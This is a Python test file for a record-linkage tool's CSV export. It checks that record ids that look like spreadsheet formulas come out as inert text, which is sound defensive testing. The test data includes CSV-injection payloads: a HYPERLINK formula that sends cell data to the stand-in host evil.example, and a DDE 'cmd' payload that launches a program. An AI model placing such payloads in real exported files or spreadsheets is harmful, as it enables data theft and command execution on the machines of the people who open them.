"""`ctdata link export` writes record ids that look like formulas as text (CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from ctdata.ingest.standard_import import import_standard
from ctdata.linkage import pipeline
from ctdata.simulate.generator import simulate

IDS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "-5"]


def test_link_export_neutralises_formula_record_ids(store, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    simulate(200, 3, tmp_path / "sim", progress=False)
    df = pd.read_csv(tmp_path / "sim" / "records.csv", dtype=str, keep_default_na=False)
    df.loc[: len(IDS) - 1, "record_id"] = IDS
    path = tmp_path / "records.csv"
    df.to_csv(path, index=False)
    import_standard(path)
    pipeline.link_store(progress=False)
    exp = pipeline.export_csv(tmp_path / "individuals.csv")
    with open(exp["path"], newline="", encoding="utf-8") as fh:
        got = {r["record_id"] for r in csv.DictReader(fh)}
    assert len(got) == 200
    assert {"'" + i for i in IDS[:4]} | {"-5"} <= got
    assert not {i for i in IDS[:4]} & got
